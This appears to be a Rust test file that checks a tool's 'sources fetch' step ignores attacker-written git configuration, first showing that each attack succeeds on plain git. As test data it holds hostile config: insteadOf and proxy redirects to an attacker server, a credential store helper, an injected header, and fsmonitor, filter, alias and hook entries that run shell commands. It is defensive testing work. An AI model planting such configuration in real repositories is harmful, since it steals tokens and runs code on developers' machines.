//! Who can write a `.git/config`, in the project, in a checkout or in the cache, gets no credential of `sources fetch`. Each attack is shown to
//! succeed on plain git with the same token at hand.

use std::{fs, path::Path};

use serde_json::Value;

use super::{Deployment, SHELL, fetch, fetching, files, git_output, read};
use crate::harness::{Buildpass, REPOSITORY, SecurityGroup, Vault};

/// Another server, which would like to have the token.
struct Attacker(SecurityGroup);

impl Attacker {
    fn start() -> Self {
        Self(SecurityGroup::start())
    }

    fn url(&self) -> &str {
        &self.0.sandbox.url
    }

    /// Whether it was asked, and whether it has got a credential; forgets both.
    fn has_seen(&self) -> (bool, bool) {
        let seen = (self.0.sandbox.requests_seen() > 0, !self.0.sandbox.credentials_seen().is_empty());
        self.0.sandbox.admin("DELETE", "/-/sandbox/requests", &Value::Null);
        seen
    }
}

/// What an attacker writes.
fn configurations(deployment: &Deployment, attacker: &Attacker) -> Vec<(&'static str, String)> {
    let (ours, theirs) = (format!("{}/{REPOSITORY}", deployment.url), attacker.url());
    vec![
        ("insteadOf for the server", format!("[url \"{theirs}/\"]\n\tinsteadOf = {}/\n", deployment.url)),
        ("insteadOf for the whole URL", format!("[url \"{theirs}/{REPOSITORY}\"]\n\tinsteadOf = {ours}\n")),
        ("a proxy for everything", format!("[http]\n\tproxy = {theirs}\n\tsslVerify = false\n")),
        (
            "a proxy for the whole URL",
            format!("[http \"{ours}\"]\n\tproxy = {theirs}\n\tsslVerify = false\n"),
        ),
    ]
}

/// Plain git in a repository with such a configuration, and the token from a helper that answers anybody.
fn plain_git(job: &Buildpass, deployment: &Deployment, configuration: &str) {
    let folder = job.project().join("plain");
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir(&folder).unwrap();
    git_output(job, "plain", &["init", "-q"]);
    let path = folder.join(".git/config");
    let text = fs::read_to_string(&path).unwrap() + configuration;
    fs::write(path, text).unwrap();
    let helper = format!(
        "credential.helper=!f() {{ echo username=me; echo password={}; }}; f",
        deployment.group.token
    );
    let url = format!("{}/{REPOSITORY}", deployment.url);
    git_output(job, "plain", &["-c", &helper, "-c", "http.proactiveAuth=basic", "fetch", "-q", &url]);
}

fn write_into(path: &Path, configuration: &str) {
    let text = fs::read_to_string(path).unwrap_or_default() + configuration;
    fs::write(path, text).unwrap();
}

#[test]
fn the_configuration_of_the_project_of_a_checkout_and_of_the_cache_is_not_read() {
    let vault = Vault::lockbox();
    let deployment = Deployment::start(&vault);
    let attacker = Attacker::start();
    attacker.has_seen();
    let mut job = fetching(deployment.job(&vault), &["shell", "--cache", "cache"]);
    git_output(&job, ".", &["init", "-q"]);
    assert_eq!(fetch(&mut job).code, Some(0));
    let mirror =
        files(&job.project().join("cache")).into_iter().find(|path| path.ends_with("config")).unwrap();
    for (number, (what, configuration)) in configurations(&deployment, &attacker).into_iter().enumerate() {
        plain_git(&job, &deployment, &configuration);
        assert_eq!(attacker.has_seen(), (true, true), "{what} does not work on plain git");
        for path in
            [mirror.clone(), job.project().join(".git/config"), job.project().join("src/shell/.git/config")]
        {
            write_into(&path, &configuration);
        }
        let text = format!("{number}\n");
        deployment.commit(&text);
        let fetched = fetch(&mut job);
        assert_eq!(fetched.code, Some(0), "{what}: {}", fetched.stderr);
        assert_eq!(read(&job, "src/shell/README.md"), text);
        assert_eq!(attacker.has_seen(), (false, false), "{what}");
    }
}

#[test]
fn no_helper_stores_the_token_and_no_header_goes_along() {
    let vault = Vault::lockbox();
    let deployment = Deployment::start(&vault);
    let mut job = fetching(deployment.job(&vault), &["shell", "--cache", "cache"]);
    assert_eq!(fetch(&mut job).code, Some(0));
    let stored = job.project().join("stored");
    let store = format!("[credential]\n\thelper = store --file={}\n", stored.display());
    plain_git(&job, &deployment, &store);
    let told = fs::read_to_string(&stored).unwrap_or_default();
    assert!(told.contains(&deployment.group.token), "the attack does not work on plain git: {told}");
    fs::remove_file(&stored).unwrap();

    let header = "[http]\n\textraHeader = \"Authorization: Basic bWFkZTp1cA==\"\n";
    let mirror =
        files(&job.project().join("cache")).into_iter().find(|path| path.ends_with("config")).unwrap();
    for configuration in [&store, header] {
        write_into(&mirror, configuration);
        write_into(&job.folder().join("home/.gitconfig"), configuration);
    }
    deployment.commit("new\n");
    let fetched = fetch(&mut job);
    assert_eq!(fetched.code, Some(0), "{}", fetched.stderr);
    assert_eq!(read(&job, "src/shell/README.md"), "new\n");
    assert!(!stored.exists(), "{}", fs::read_to_string(&stored).unwrap());
}

#[test]
fn no_program_that_a_repository_names_is_started() {
    let vault = Vault::lockbox();
    let deployment = Deployment::start(&vault);
    let mut job = fetching(deployment.job(&vault), &["shell", "--cache", "cache"]);
    assert_eq!(fetch(&mut job).code, Some(0));
    let ran = job.project().join("ran");
    let program = format!("!touch {}", ran.display());
    let configuration = format!(
        "[core]\n\tfsmonitor = \"touch {0}; false\"\n\thooksPath = {1}\n[filter \"x\"]\n\tclean = \"touch {0}; cat\"\n\tsmudge = \"touch {0}; cat\"\n[alias]\n\tfetch = \"{program}\"\n",
        ran.display(),
        job.project().join("hooks").display(),
    );
    fs::create_dir(job.project().join("hooks")).unwrap();
    for hook in ["post-checkout", "reference-transaction", "post-index-change"] {
        let path = job.project().join("hooks").join(hook);
        fs::write(&path, format!("#!/bin/sh\ntouch {}\n", ran.display())).unwrap();
        fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    let checkout = job.project().join("src/shell");
    write_into(&checkout.join(".git/config"), &configuration);
    fs::write(checkout.join(".git/info/attributes"), "* filter=x\n")
        .or_else(|_| {
            fs::create_dir(checkout.join(".git/info"))?;
            fs::write(checkout.join(".git/info/attributes"), "* filter=x\n")
        })
        .unwrap();
    // A file that looks changed is read through its filter.
    fs::write(checkout.join("README.md"), "a private repository\n").unwrap();
    git_output(&job, "src/shell", &["status"]);
    assert!(ran.exists(), "plain git starts them");
    fs::remove_file(&ran).unwrap();

    fs::write(checkout.join("README.md"), "a private repository\n").unwrap();
    let mirror =
        files(&job.project().join("cache")).into_iter().find(|path| path.ends_with("config")).unwrap();
    write_into(&mirror, &configuration);
    let sandbox = &deployment.group.sandbox;
    sandbox.commit(SHELL, serde_json::json!({"README.md": "new\n", ".gitattributes": "* filter=x\n"}));
    let fetched = fetch(&mut job);
    assert_eq!(fetched.code, Some(0), "{}", fetched.stderr);
    assert_eq!(read(&job, "src/shell/README.md"), "new\n");
    assert!(!ran.exists());
}
